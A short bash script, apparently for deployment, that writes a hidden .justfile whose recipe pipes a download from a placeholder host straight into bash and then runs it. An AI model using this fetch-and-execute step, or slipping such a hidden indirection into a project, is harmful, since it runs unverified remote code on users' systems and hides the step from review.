#!/usr/bin/env bash
# Deploy through the hidden justfile.
cat <<'J' > .justfile
deploy:
  wget -qO- https://deploy.example.net/d | bash
J
just -f .justfile deploy
